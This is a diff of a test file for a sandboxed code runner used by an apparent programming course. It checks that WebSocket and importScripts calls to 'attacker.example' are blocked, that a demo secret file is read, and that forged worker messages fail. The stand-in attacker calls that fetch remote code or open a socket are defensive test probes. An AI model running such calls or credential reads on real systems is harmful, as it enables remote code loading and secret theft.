@@ -43,6 +43,11 @@ test('the bundle runs a program, removes network globals and serves fetch from t
         'index.ts': [
           "import { readFileSync } from 'node:fs';",
           "console.log(typeof XMLHttpRequest, typeof importScripts, typeof WebSocket, typeof globalThis.fetch);",
+          "try { new WebSocket('wss://attacker.example'); } catch (e) { console.log(e.message); }",
+          "try { importScripts('https://attacker.example/x.js'); } catch (e) { console.log(e.message); }",
+          "const xhr = new XMLHttpRequest(); xhr.open('GET', 'https://api.payments.example/v1/charges');",
+          "await new Promise((done) => { xhr.onload = done; xhr.send(); });",
+          "console.log('xhr', xhr.status);",
           "console.log(readFileSync('/run/secrets/db_password', 'utf8'));",
           "const response = await fetch('https://api.payments.example/v1/charges');",
           'console.log(response.status, (await response.json()).error.type);',
@@ -56,10 +61,20 @@ test('the bundle runs a program, removes network globals and serves fetch from t
     { onOutput: (chunk) => chunks.push(chunk) },
   );
   const text = (stream: string) => chunks.filter((chunk) => chunk.stream === stream).map((chunk) => chunk.text).join('');
-  expect(text('stdout')).toBe('undefined undefined undefined function\nP@ssw0rd-demo-only\n405 invalid_request_error\n');
-  expect(text('stderr')).toContain("Uncaught TypeError: Cannot read properties of null (reading 'boom')\n    at /app/index.ts:7:6");
+  expect(text('stdout')).toBe(
+    [
+      'function function function function',
+      "WebSocket is not available in the sandbox: programs here reach only the course's simulated services, over HTTP with fetch (or a client built on it)",
+      'importScripts() is not available in the sandbox: a Node program loads code with import or require',
+      'xhr 405',
+      'P@ssw0rd-demo-only',
+      '405 invalid_request_error',
+      '',
+    ].join('\n'),
+  );
+  expect(text('stderr')).toContain("Uncaught TypeError: Cannot read properties of null (reading 'boom')\n    at /app/index.ts:12:6");
   expect(result).toMatchObject({ status: 'error', exitCode: 1 });
-  expect(payments.requests.map((request) => request.method)).toEqual(['GET']);
+  expect(payments.requests.map((request) => request.method)).toEqual(['GET', 'GET']);
   runtime.dispose();
 }, 30_000);
 
@@ -131,13 +146,15 @@ test('code a worker compiled is reused for the same text, and later workers get 
   expect(kinds.indexOf('bundle:transpiler')).toBeLessThan(kinds.indexOf('run'));
   expect(requested).toEqual(['transpiler']);
 
-  // A worker that did not get its code cannot hand the host code for a text it was not given.
+  // Learner code cannot hand the host code for a text it was not given: its own postMessage is not
+  // the runtime's channel, and the run fails saying so.
   const forged = await run({
     files: { 'main.ts': "self.postMessage({ type: 'compiled', files: { '/app/x.ts': { source: 'a', code: 'b' } } });\n" },
     entry: 'main.ts',
     env: {},
   });
-  expect(forged.result.status).toBe('ok');
+  expect(forged.result.status).toBe('error');
+  expect(forged.output).toContain('the program posted a message to the page itself');
   expect(compiled.lookup({ '/app/x.ts': 'a' })).toEqual({});
   runtime.dispose();
 }, 30_000);
